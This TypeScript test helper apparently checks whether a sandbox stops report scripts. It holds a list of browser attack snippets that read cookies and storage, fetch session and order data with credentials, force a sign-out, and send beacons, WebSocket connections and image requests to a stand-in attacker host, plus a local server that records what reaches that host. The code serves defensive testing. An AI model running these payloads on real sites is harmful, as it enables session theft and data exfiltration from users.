import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

/** Attacks that a report could attempt, as function bodies that return what they obtained. `secret` stands for
 *  the session. */
const ATTEMPTS: Record<string, string> = {
  "reads cookies": "return document.cookie",
  "sets a cookie": "document.cookie = 'planted=1; path=/'; return document.cookie",
  "reads local storage": "return JSON.stringify(localStorage)",
  "reads session storage": "return JSON.stringify(sessionStorage)",
  "opens a database":
    "return String(await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no }))",
  "lists caches": "return JSON.stringify(await caches.keys())",
  "fetches the session": "return (await fetch('/api/auth/session', { credentials: 'include' })).text()",
  "fetches the orders": "return (await fetch('/api/orders', { credentials: 'include' })).text()",
  "fetches without reading":
    "await fetch('/api/orders', { credentials: 'include', mode: 'no-cors' }); return 'sent'",
  "asks by XMLHttpRequest":
    "return await new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', '/api/orders'); x.withCredentials = true; x.onload = () => yes(x.responseText); x.onerror = () => no(new Error('refused')); x.send() })",
  "changes something":
    "return (await fetch('/api/auth/sign-out', { method: 'POST', credentials: 'include' })).text()",
  // The result does not show whether the beacon was sent; the log does.
  "sends a beacon":
    "navigator.sendBeacon('ELSEWHERE/beacon', 'x'); navigator.sendBeacon('/api/beacon', 'x'); throw new Error('unseen')",
  "opens a WebSocket":
    "return await new Promise((yes, no) => { const s = new WebSocket('ELSEWHERE/socket'.replace('http', 'ws')); s.onopen = () => yes('open'); s.onerror = () => no(new Error('refused')) })",
  "listens to the feed":
    "return await new Promise((yes, no) => { const e = new EventSource('/trpc/changes.watch?input=%7B%7D', { withCredentials: true }); e.onopen = () => yes('open'); e.onerror = () => { e.close(); no(new Error('refused')) } })",
  "loads a picture from elsewhere":
    "return await new Promise((yes, no) => { const i = new Image(); i.onload = () => yes('loaded'); i.onerror = () => no(new Error('refused')); i.src = 'ELSEWHERE/pixel.svg' })",
  "loads a script of the app":
    "return await new Promise((yes, no) => { const s = document.createElement('script'); s.onload = () => yes('loaded'); s.onerror = () => no(new Error('refused')); s.src = '/color-scheme.js'; document.head.append(s) })",
  "registers a service worker": "return String(await navigator.serviceWorker.register('/color-scheme.js'))",
  "starts a worker":
    "return await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => yes('started'); w.onerror = () => no(new Error('refused')) })",
  "opens a window": "const w = window.open('/orders'); if (!w) throw new Error('refused'); return 'opened'",
  "reads who opened it": "if (!window.opener) throw new Error('refused'); return window.opener.location.href",
  "reads its parent":
    "if (parent === window) throw new Error('refused'); return parent.document.body.innerText",
  "frames the app and reads it":
    "return await new Promise((yes, no) => { const f = document.createElement('iframe'); f.src = '/api/orders'; f.onload = () => { try { yes(f.contentDocument.body.innerText) } catch (error) { no(error) } }; document.body.append(f); setTimeout(() => no(new Error('refused')), 2000) })",
  "posts a form":
    "const f = document.createElement('form'); f.method = 'post'; f.action = '/api/auth/sign-out'; f.target = '_blank'; document.body.append(f); f.submit(); await new Promise((on) => setTimeout(on, 300)); throw new Error('unseen')",
  "leads the whole window away":
    "if (top === window) throw new Error('refused'); top.location.href = 'ELSEWHERE/taken'; await new Promise((on) => setTimeout(on, 300)); throw new Error('unseen')",
};

/** The script that attempts all attacks and sets `window.attempts`: the result of each, or "refused". */
export function hostileScript(elsewhere: string): string {
  const entries = Object.entries(ATTEMPTS).map(
    ([name, body]) => `${JSON.stringify(name)}: async () => { ${body.replaceAll("ELSEWHERE", elsewhere)} }`,
  );
  return `(async () => {
    const tries = { ${entries.join(",\n")} };
    const attempts = {};
    for (const [name, attempt] of Object.entries(tries)) {
      const late = new Promise((_, no) => setTimeout(() => no(new Error('refused')), 4000));
      try { attempts[name] = "GOT: " + (await Promise.race([attempt(), late])); }
      catch (error) { attempts[name] = "refused"; }
    }
    window.attempts = attempts;
  })()`;
}

/** All attempts, each refused. */
export const NOTHING_GOT = Object.fromEntries(Object.keys(ATTEMPTS).map((name) => [name, "refused"]));

/** A site of the attacker that records every request and connection. */
export async function elsewhere() {
  const heard: string[] = [];
  const server = createServer((req, res) => {
    heard.push(req.url ?? "");
    res.writeHead(200, { "content-type": "image/svg+xml" });
    res.end('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
  });
  server.on("upgrade", (req, socket) => {
    heard.push(req.url ?? "");
    socket.destroy();
  });
  await new Promise<void>((resolve) => void server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    heard,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}
